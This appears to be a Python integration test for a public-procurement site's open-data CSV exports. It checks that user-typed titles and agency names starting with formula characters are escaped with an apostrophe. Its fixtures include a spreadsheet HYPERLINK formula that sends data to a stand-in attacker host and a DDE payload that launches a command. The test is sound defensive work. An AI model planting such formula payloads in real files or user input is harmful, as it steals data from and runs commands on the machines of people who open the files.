"""Issue 19, item 6: text people typed (a notice's title, an agency's name) reaches the
open data's CSV files, which people open in spreadsheets. A cell that a spreadsheet would
run as a formula (``=HYPERLINK(...)`` phones home when clicked) is written defused, with
an apostrophe before it, in every export: one writer (market.core.spreadsheet) serves them all."""

from __future__ import annotations

import csv
import io

from httpx import AsyncClient

from market.core.db import Database
from tests.integration.agencies.test_api import admin
from tests.integration.notices.test_api import approved_agency
from tests.integration.selection.helpers import close, open_round

TITLE = '=HYPERLINK("http://evil.example/steal?x="&A1,"查看附件")'
NAME = "@SUM(1+1)*cmd|' /C calc'!A0 环境科技有限公司"


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


async def test_formulas_typed_by_people_are_defused_in_every_open_data_csv(
    client: AsyncClient, db: Database
) -> None:
    staff = await admin(client, db)
    bidders = [await approved_agency(client, staff, name=NAME)] + [
        await approved_agency(client, staff) for _ in range(2)
    ]
    # the agency with the formula for a name bids lowest: it wins, and its name is in awards.csv
    r = await open_round(
        client,
        staff,
        bidders=bidders,
        title=TITLE,
        method="lowest_price",
        prices=[100_000, 200_000, 300_000],
        winners=1,
        min_candidates=1,
    )
    await close(client, r)

    notices = rows((await client.get("/data/notices.csv")).content)
    titles = [row[notices[0].index("title")] for row in notices[1:]]
    assert "'" + TITLE in titles and TITLE not in titles

    awards = rows((await client.get("/data/awards.csv")).content)
    names = [row[awards[0].index("agency")] for row in awards[1:]]
    assert "'" + NAME in names and NAME not in names
    # and nothing else in any export starts a formula
    for path in ("/data/notices.csv", "/data/awards.csv", "/data/contracts.csv"):
        for row in rows((await client.get(path)).content):
            for value in row:
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (path, value)
